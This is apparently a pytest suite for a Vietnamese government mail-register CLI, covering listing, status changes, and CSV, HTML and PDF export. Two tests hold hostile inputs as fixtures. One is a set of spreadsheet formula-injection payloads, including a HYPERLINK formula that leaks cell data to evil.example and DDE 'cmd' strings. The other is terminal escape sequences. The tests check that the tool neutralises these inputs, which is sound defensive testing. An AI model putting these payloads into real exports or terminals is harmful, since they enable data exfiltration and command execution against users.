"""`mailsvc register list | show | set-status | assign | export` on a seeded register."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from mailsvc.db.models import AuditEntry
from mailsvc.register.queries import local_today
from mailsvc.register.registers import ensure_register
from mailsvc.register.registration import register_document
from mailsvc.register.urgency import Urgency
from mailsvc.signatures.report import DocumentOutcome
from tests.register.builders import document, pdf_attachment

REGISTER = "000.00.31.H56"
YESTERDAY = local_today() - timedelta(days=1)
HEADINGS = (
    "Số đến",
    "Ngày đến",
    "Tác giả",
    "Số, ký hiệu",
    "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận",
    "Ký nhận",
    "Ghi chú",
)
SCHEMA_KEYS = {
    "id", "register", "incoming_number", "year", "received_at", "registered_at",
    "agency_code", "agency_name", "sender", "recipient", "number_notation", "issued_date",
    "doc_type", "abstract", "urgency", "urgency_label", "signer", "signature_outcome",
    "signature_reason", "page_count", "attachment_count", "mail_date", "language", "status",
    "status_label", "status_exchange_code", "deadline", "overdue",
    "assigned_to", "subject", "message_id", "queue_id", "duplicates", "note", "attachments",
    "history", "deliveries",
}  # fmt: skip


@pytest.fixture
def seeded(db_sessions: sessionmaker[Session]) -> None:
    with db_sessions.begin() as session:
        register = ensure_register(
            session, REGISTER, "Sổ đăng ký văn bản đến - Sở Thông tin và Truyền thông"
        )
        register_document(
            session,
            register,
            document(
                received_at=datetime(2026, 3, 2, 1, 15, tzinfo=UTC),
                number_notation="35/2018/QĐ-UBND",
                doc_type="Quyết định",
                abstract="Ban hành Quy chế quản lý, sử dụng hệ thống thư điện tử công vụ",
                agency_code="000.00.00.H56",
                agency_name="UBND tỉnh Đắk Nông",
                urgency=Urgency.URGENT,
                deadline=YESTERDAY,
                attachments=(pdf_attachment(b"%PDF qd35", name="35-QĐ-UBND.pdf"),),
            ),
        )
        register_document(
            session,
            register,
            document(
                received_at=datetime(2026, 3, 3, 17, 30, tzinfo=UTC),  # 2026-03-04 00:30 +07
                number_notation="464-QĐ/TU",
                doc_type="Quyết định",
                abstract="V/v kiện toàn Ban Chỉ đạo",
                agency_code="000.00.01.H56",
                agency_name="Tỉnh ủy Đắk Nông",
            ),
        )
        register_document(
            session,
            register,
            document(
                received_at=datetime(2026, 3, 4, 2, 0, tzinfo=UTC),
                signature_outcome=DocumentOutcome.REFERENCE_ONLY,
                signature_reason="unsigned",
                number_notation="917-TTr/VPTU",
                doc_type="Tờ trình",
                abstract="Đề nghị phê duyệt kế hoạch",
                agency_code="000.00.02.H56",
                agency_name="Văn phòng Tỉnh ủy",
            ),
        )


def _json(admin_cli, *args: str) -> object:
    return json.loads(admin_cli("register", *args, "--json").stdout)


def test_list_json_has_the_documented_schema(admin_cli, seeded: None) -> None:
    rows = _json(admin_cli, "list")
    assert isinstance(rows, list) and len(rows) == 3
    for row in rows:
        assert set(row) == SCHEMA_KEYS
    first = rows[0]
    assert first["incoming_number"] == 1 and first["year"] == 2026
    assert first["received_at"] == "2026-03-02T08:15:00+07:00"
    assert first["number_notation"] == "35/2018/QĐ-UBND"
    assert first["issued_date"] == "2026-02-27"
    assert first["urgency"] == "urgent" and first["urgency_label"] == "Khẩn"
    assert first["signature_outcome"] == "valid"
    assert first["status"] == "registered" and first["status_label"] == "Đã tiếp nhận"
    assert first["status_exchange_code"] == "03"
    assert first["deadline"] == YESTERDAY.isoformat() and first["overdue"] is True
    assert first["attachments"][0]["filename"] == "35-QĐ-UBND.pdf"
    assert [h["to_status"] for h in first["history"]] == ["arrived", "registered"]
    assert first["history"][0]["at"].endswith("+07:00")
    last = rows[2]
    assert last["incoming_number"] is None and last["status"] == "arrived"
    assert last["signature_outcome"] == "reference_only"


def test_list_filters(admin_cli, seeded: None) -> None:
    def numbers(*args: str) -> list[object]:
        return [r["number_notation"] for r in _json(admin_cli, "list", *args)]

    assert numbers("--from", "2026-03-04") == ["464-QĐ/TU", "917-TTr/VPTU"]  # +07:00 days
    assert numbers("--to", "2026-03-03") == ["35/2018/QĐ-UBND"]
    assert numbers("--agency", "TỈNH ỦY ĐẮK") == ["464-QĐ/TU"]
    assert numbers("--agency", "000.00.02.H56") == ["917-TTr/VPTU"]
    assert numbers("--status", "da_den") == ["917-TTr/VPTU"]
    assert numbers("--urgency", "Khẩn") == ["35/2018/QĐ-UBND"]
    assert numbers("--overdue") == ["35/2018/QĐ-UBND"]  # its deadline was yesterday
    assert numbers("--register", REGISTER, "--limit", "1") == ["35/2018/QĐ-UBND"]


def test_list_table(admin_cli, seeded: None) -> None:
    out = admin_cli("register", "list").stdout
    assert "SỐ ĐẾN" in out and "TRÍCH YẾU" in out
    assert "1/2026" in out and "35/2018/QĐ-UBND" in out and "Khẩn" in out
    # The clerk reads dates as dd/mm/yyyy (JSON keeps ISO 8601 +07:00).
    assert "00:30 04/03/2026" in out and "+07:00" not in out


def test_show_by_number_and_by_id(admin_cli, seeded: None) -> None:
    by_number = _json(admin_cli, "show", "2/2026")
    assert isinstance(by_number, dict) and set(by_number) == SCHEMA_KEYS
    assert by_number["number_notation"] == "464-QĐ/TU"
    assert by_number["received_at"] == "2026-03-04T00:30:00+07:00"
    by_id = _json(admin_cli, "show", str(by_number["id"]))
    assert by_id == by_number
    text = admin_cli("register", "show", "2/2026").stdout
    assert "history:" in text and "arrived -> registered" in text
    missing = admin_cli("register", "show", "99/2026", ok=False)
    assert missing.exit_code == 1 and "no document with incoming number 99/2026" in missing.output


def test_set_status_and_assign_record_who_when_why(
    admin_cli, seeded: None, db_sessions: sessionmaker[Session]
) -> None:
    out = admin_cli(
        "register", "assign", "1/2026", "--to", "Phòng Bưu chính - Viễn thông",
        "--deadline", "2026-03-20", "--reason", "Tham mưu trả lời", "--actor", "cli:vanthu",
    ).stdout  # fmt: skip
    assert "assigned to Phòng Bưu chính - Viễn thông, deadline 2026-03-20" in out
    admin_cli("register", "set-status", "1/2026", "dang_xu_ly")
    view = _json(admin_cli, "set-status", "1/2026", "done", "--reason", "Đã ban hành văn bản")
    assert isinstance(view, dict)
    assert view["status"] == "done" and view["deadline"] == "2026-03-20"
    assert [(h["actor"], h["from_status"], h["to_status"]) for h in view["history"][2:]] == [
        ("cli:vanthu", "registered", "assigned"),
        ("cli:tester", "assigned", "in_progress"),
        ("cli:tester", "in_progress", "done"),
    ]
    assert view["history"][2]["assigned_to"] == "Phòng Bưu chính - Viễn thông"
    assert view["history"][4]["reason"] == "Đã ban hành văn bản"
    with db_sessions() as session:
        actions = session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)).all()
    assert actions == ["register.assign", "register.set-status", "register.set-status"]
    bad = admin_cli("register", "set-status", "1/2026", "registered", "--reason", "x", ok=False)
    assert bad.exit_code == 1
    assert "cannot change status from done (Đã hoàn thành) to registered" in bad.output
    unknown = admin_cli("register", "set-status", "1/2026", "approved", ok=False)
    assert unknown.exit_code == 1 and "unknown status 'approved'" in unknown.output


def test_export_csv_for_excel(admin_cli, seeded: None, tmp_path: Path) -> None:
    target = tmp_path / "so-den.csv"
    admin_cli("register", "export", "--format", "csv", "--output", str(target))
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == HEADINGS
    assert len(rows) == 3  # numbered entries only by default
    assert rows[1][0] == "1" and rows[1][1] == "08:15 02/03/2026"  # as clerks read dates
    assert rows[1][2] == "UBND tỉnh Đắk Nông" and rows[1][3] == "35/2018/QĐ-UBND"
    assert rows[1][5].startswith("Quyết định - Ban hành Quy chế")
    assert "Khẩn" in rows[1][8]
    everything = admin_cli("register", "export", "--all").stdout_bytes
    assert len(list(csv.reader(io.StringIO(everything.decode("utf-8-sig"))))) == 4


def test_export_csv_neutralises_formulas(
    admin_cli, db_sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    """Subjects come from outside senders: a cell a spreadsheet would evaluate is text."""
    hostile = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")": "=",
        "+cmd|' /C calc'!A0": "+",
        "-2+3+cmd|' /C calc'!A0": "-",
        "@SUM(1+1)*cmd|' /C calc'!A0": "@",
        "\t=1+1": "\t",
        "\r=1+1": "\r",
    }
    with db_sessions.begin() as session:
        register = ensure_register(session, REGISTER, "Sổ đăng ký văn bản đến")
        for i, subject in enumerate(hostile):
            register_document(
                session,
                register,
                document(
                    number_notation=f"={i}+1",
                    doc_type="",
                    abstract="",
                    subject=subject,
                    agency_name="@Evil",
                ),
            )
    target = tmp_path / "so-den.csv"
    admin_cli("register", "export", "--format", "csv", "--output", str(target))
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
    body = rows[1:]
    assert len(body) == len(hostile)
    titles = {row[5] for row in body}
    assert titles == {"'" + subject.strip() for subject in hostile}
    for row in body:
        assert row[2] == "'@Evil" and row[3].startswith("'=")
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_export_html_is_printable_and_self_contained(
    admin_cli, seeded: None, tmp_path: Path
) -> None:
    target = tmp_path / "so-den.html"
    admin_cli(
        "register", "export", "--format", "html", "-o", str(target),
        "--from", "2026-03-01", "--to", "2026-03-31", "--register", REGISTER,
    )  # fmt: skip
    html = target.read_text(encoding="utf-8")
    for heading in HEADINGS:
        assert f"<th>{heading}</th>" in html
    assert "counter(page)" in html and "@page" in html and "landscape" in html
    assert "http://" not in html and "https://" not in html and "<script" not in html
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in html.upper()
    assert "Từ ngày 01/03/2026 đến ngày 31/03/2026" in html
    assert "35/2018/QĐ-UBND" in html and "464-QĐ/TU" in html


def test_export_pdf_landscape_with_vietnamese_headings(
    admin_cli, seeded: None, tmp_path: Path
) -> None:
    target = tmp_path / "so-den.pdf"
    admin_cli("register", "export", "--format", "pdf", "-o", str(target), "--all")
    reader = PdfReader(str(target))
    page = reader.pages[0]
    assert float(page.mediabox.width) > float(page.mediabox.height)  # landscape
    text = unicodedata.normalize("NFC", page.extract_text())
    for heading in HEADINGS:
        assert all(word in text for word in heading.split()), heading
    assert "35/2018/QĐ-UBND" in text and "Trang 1/1" in text


def test_late_lists_entries_registered_after_the_next_working_day(admin_cli, seeded: None) -> None:
    # the reference-only Tờ trình (Wednesday 4/3) was never numbered: due end of Thursday
    rows = _json(admin_cli, "late", "--from", "2026-03-01", "--to", "2026-03-31")
    assert isinstance(rows, list)
    assert [(r["notation"], r["registered_at"]) for r in rows] == [("917-TTr/VPTU", None)]
    assert rows[0]["due"] == "2026-03-06T00:00:00+07:00"
    table = admin_cli("register", "late", "--from", "2026-03-01", "--to", "2026-03-31").stdout
    assert "Văn bản đến vào sổ muộn" in table and "chưa vào sổ" in table
    assert "HẠN VÀO SỔ" in table


def test_control_characters_from_mail_never_reach_the_terminal(
    admin_home: Path, db_sessions: sessionmaker[Session]
) -> None:
    """A Subject like '=?utf-8?q?=1B]0;PWNED=07=1B[2J?=' becomes the abstract: printed raw
    it would retitle the administrator's window and clear the screen (OSC 52 would even
    write the clipboard). Every control character is shown as U+FFFD instead."""
    from click.testing import CliRunner

    from mailsvc.cli import main

    hostile = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mV/v đỏ\x9b31m\u202eexe.pdf\r"
    with db_sessions.begin() as session:
        register = ensure_register(session, REGISTER, "Sổ đăng ký văn bản đến")
        register_document(
            session,
            register,
            document(
                abstract=hostile,
                attachments=(pdf_attachment(b"%PDF x", name=f"{hostile}.pdf"),),
            ),
        )
    for args in (("register", "list"), ("register", "show", "1/2026")):
        # color=True: as on a terminal (click strips only CSI sequences, and only when
        # the output is not a terminal)
        result = CliRunner().invoke(main, ["--home", str(admin_home), *args], color=True)
        assert result.exit_code == 0, result.output
        assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e\r"), repr(result.stdout)
        assert "\ufffd]0;PWNED\ufffd" in result.stdout
